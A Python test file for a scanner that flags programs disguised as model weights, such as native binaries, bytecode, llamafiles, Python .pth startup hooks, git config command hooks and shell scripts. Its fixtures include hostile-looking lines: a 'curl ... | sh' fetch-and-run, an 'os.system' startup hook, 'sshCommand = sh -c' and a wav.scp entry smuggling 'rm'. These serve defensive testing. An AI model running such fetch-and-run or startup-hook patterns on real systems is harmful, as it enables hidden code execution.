"""Programs, by what they hold, and files that only begin as programs do."""

from __future__ import annotations

import io
import random
import struct
import zipfile

import pytest
from tests.engine.artifacts.configs.documents import rules, scanned

from muniment.engine.artifacts.report import Verdict


def elf(machine: int = 62) -> bytes:
    head = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, machine, 1)
    return head + struct.pack("<QQQIHHHHHH", 0, 64, 0, 0, 64, 56, 1, 64, 0, 0) + bytes(200)


def pe() -> bytes:
    head = b"MZ" + bytes(58) + struct.pack("<I", 128)
    return (
        head.ljust(128, b"\0")
        + b"PE\0\0"
        + struct.pack("<HH", 0x8664, 3)
        + bytes(16)
        + b"\x0b\x02"
        + bytes(99)
    )


def macho() -> bytes:
    return struct.pack("<IIIIIII", 0xFEEDFACF, 0x01000007, 3, 6, 10, 1000, 0) + bytes(99)


def fat() -> bytes:
    return (
        struct.pack(">II", 0xCAFEBABE, 2)
        + struct.pack(">IIIII", 0x01000007, 3, 64, 10, 1)
        + bytes(99)
    )


NATIVE = {"elf": elf(), "pe": pe(), "mach-o": macho(), "mach-o of several": fat()}
COMPILED = {
    "java": struct.pack(">IHHH", 0xCAFEBABE, 0, 61, 30) + b"\x0a" + bytes(40),
    "wasm": b"\0asm\x01\0\0\0\x01\x04\x01\x60\0\0",
    "dex": b"dex\n035\0" + bytes(32) + b"\x78\x56\x34\x12" + bytes(40),
    "pyc": b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(40),
}


@pytest.mark.parametrize("content", NATIVE.values(), ids=NATIVE.keys())
def test_a_program_is_recognised_and_judged_by_its_name(content: bytes) -> None:
    assert rules(content, "libx.so") == {"program.native-file": "medium"}
    assert rules(content, "model.bin") == {"program.disguised": "high"}


@pytest.mark.parametrize("content", COMPILED.values(), ids=COMPILED.keys())
def test_bytecode_is_for_a_person_to_look_at(content: bytes) -> None:
    assert rules(content, "x.bin") == {"program.bytecode": "medium"}


@pytest.mark.parametrize("content", [*NATIVE.values(), *COMPILED.values()])
def test_what_only_begins_as_a_program_is_none(content: bytes) -> None:
    generator = random.Random(4)
    for _ in range(200):
        noise = content[:4] + generator.randbytes(400)
        assert "program.native-file" not in rules(noise, "weights")
        assert scanned(content[:7], "weights").findings == ()


def test_a_llamafile_is_a_program() -> None:
    assert rules(b"MZqFpD='\n" + bytes(400), "x.llamafile") == {"program.executable-model": "high"}


def test_path_files_of_python_share_the_ending_of_weights() -> None:
    assert rules("import os; os.system('echo')\n", "evil.pth") == {"program.startup-hook": "high"}
    assert rules("../somewhere/else\n", "paths.pth") == {}


def test_scripts_and_shortcuts() -> None:
    assert rules("#!/bin/sh\nwget https://example.net/model.bin\n", "get.sh") == {}
    assert rules("echo hello\r\n", "start.bat") == {"program.script": "low"}
    assert rules("import os\n", "sitecustomize.py") == {"program.start-up-module": "medium"}
    assert rules("#!/bin/sh\ncurl http://example.net/x | sh\n", "get.sh") == {
        "program.script-fetches": "medium"
    }
    assert rules("#!/bin/sh\n# \u202e\n", "get.sh")["program.hidden-text"] == "high"
    assert rules("[Desktop Entry]\nExec=sh\n", "a.desktop") == {"program.shortcut": "medium"}
    link = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60)
    assert rules(link, "model.lnk") == {"program.shortcut": "medium"}
    assert rules("print('hello')\n", "train.py") == {}


def test_sentencepiece_is_recognised() -> None:
    content = b"\n\x0e\n\x05<unk>\x15\0\0\0\0\x18\x02\n\x0c\n\x03<s>"
    scan = scanned(content, "tokenizer.model")
    assert scan.verdict is Verdict.CLEAN
    assert scan.formats == ("sentencepiece",)


def test_a_program_inside_an_archive_is_high() -> None:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("data.pkl", b"\x80\x02N.")
        archive.writestr("lib/native.so", elf())
    scan = scanned(file.getvalue(), "model.pt")
    if scan.formats:  # Archives are read by another package.
        assert "program.native" in {each.rule for each in scan.findings}


STUBS = {
    "elf": b"\x7fELF\x02\x01\x01" + bytes(57),
    "elf of zeros": b"\x7fELF" + bytes(60),
    "pe": b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(40),
    "dos": b"MZ\x90\0" + bytes(74) + b"This program cannot be run in DOS mode.\r\n$" + bytes(64),
    "mach-o": b"\xcf\xfa\xed\xfe\x0c\0\0\x01" + bytes(24),
}


@pytest.mark.parametrize("content", STUBS.values(), ids=STUBS.keys())
def test_a_program_cut_to_its_head_is_one_still(content: bytes) -> None:
    assert rules(content, "libx.so") == {"program.native-file": "medium"}
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as out:
        out.writestr("ops/libx.so", content)
    assert rules(archive.getvalue(), "model.zip") == {"program.native": "high"}


@pytest.mark.parametrize(
    "content", ["#!/bin/sh\necho x\n", "import os\nos.system('echo')\n", "@echo off\r\necho\r\n"]
)
@pytest.mark.parametrize("name", ["model.bin", "weights.dat", "model.safetensors", "a.pt"])
def test_scripts_under_names_of_weights(content: str, name: str) -> None:
    assert rules(content, name)["program.disguised"] == "high"


def test_texts_that_are_no_scripts_under_names_of_weights() -> None:
    assert rules("from here on it is text\n", "model.bin") == {}
    assert rules("important notes\n", "data.dat") == {}
    assert rules("#!/bin/sh\necho x\n", "run.sh") == {}


def test_a_java_archive_is_for_a_person_to_look_at() -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as out:
        out.writestr("META-INF/MANIFEST.MF", "Main-Class: Run\n")
        out.writestr("Run.class", COMPILED["java"])
    assert rules(archive.getvalue(), "model.jar") == {"program.bytecode": "medium"}


def test_repositories_whose_settings_run_commands() -> None:
    honest = '[core]\n\tbare = false\n[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f\n'
    assert rules(honest, "config") == {}
    for line in ("fsmonitor = echo x", "sshCommand = sh -c x", "hooksPath = .hooks"):
        assert rules(f"[core]\n\t{line}\n", "config") == {"program.git-command": "high"}
    assert rules("[core]\n\tfsmonitor = true\n\tpager = less\n", "config") == {}


def test_lists_of_recordings_that_are_commands() -> None:
    assert rules("a sox a.wav -t wav - |\nb b.wav\n", "wav.scp") == {}
    assert rules("a echo x; rm y |\n", "wav.scp") == {"config.runs-command": "medium"}


def test_pages_that_are_programs() -> None:
    assert rules("<script>x</script>", "readme.hta") == {"program.shortcut": "medium"}


def test_bytecode_under_names_of_weights() -> None:
    for content in COMPILED.values():
        assert rules(content, "weights.bin") == {"program.disguised": "high"}
